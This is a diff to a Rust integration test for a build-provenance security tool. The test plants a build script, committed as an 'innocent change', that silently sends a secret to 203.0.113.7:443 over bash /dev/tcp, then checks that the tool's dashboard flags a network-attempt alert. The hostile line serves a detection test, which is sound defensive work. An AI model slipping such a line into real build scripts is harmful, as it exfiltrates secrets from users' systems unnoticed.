@@ -118,6 +118,10 @@ struct History {
     denied_commit: String,
 }
 
+const QUIET: &str = "mkdir -p out2\n/usr/bin/cat build.sh > out2/app\n";
+const NOISY: &str = "mkdir -p out2\n/usr/bin/cat build.sh > out2/app\n\
+    (echo secret > /dev/tcp/203.0.113.7/443) 2>/dev/null || true\n";
+
 fn seed(dir: &Path) -> History {
     let (repo, first) = example_repo(dir, "example");
     let artifact = first["artifacts"][0][1].as_str().unwrap().to_owned();
@@ -145,6 +149,25 @@ fn seed(dir: &Path) -> History {
         .unwrap()
         .clone();
     assert_eq!(policy["status"], "failed", "{denied:#}");
+    // A second pipeline in the repository: ten quiet builds, then one that reaches out to the
+    // network (what `zt watch` reports).
+    fs_err::write(repo.join("build.sh"), QUIET).unwrap();
+    git(&repo, &["add", "build.sh"]);
+    git(&repo, &["commit", "-qm", "build script"]);
+    for _ in 0..10 {
+        run_json(
+            &repo,
+            &["build", "--json", "--out", "out2", "--", "bash", "build.sh"],
+            0,
+        );
+    }
+    fs_err::write(repo.join("build.sh"), NOISY).unwrap();
+    git(&repo, &["commit", "-qam", "innocent change"]);
+    run_json(
+        &repo,
+        &["build", "--json", "--out", "out2", "--", "bash", "build.sh"],
+        0,
+    );
     // A drill run in the repository counts in its figures.
     run_json(&repo, &["drill", "leaked-key", "--json"], 0);
     run_json(
@@ -379,6 +402,12 @@ fn the_dashboard_shows_provenance_figures_denials_and_the_log_in_a_browser() {
 
     // Alerts and incidents: the incident on the denied commit.
     d.goto(&format!("{url}/alerts"));
+    let alert = d.text(&d.find("table.alerts tbody"));
+    assert!(alert.contains("network-attempt"), "{alert}");
+    assert!(
+        alert.contains("203.0.113.7:443") || alert.contains("none of the last 10 builds"),
+        "{alert}"
+    );
     let incident = d.text(&d.find("article.incident"));
     assert!(incident.contains("bad-commit"), "{incident}");
     assert!(incident.contains(&h.denied_commit), "{incident}");
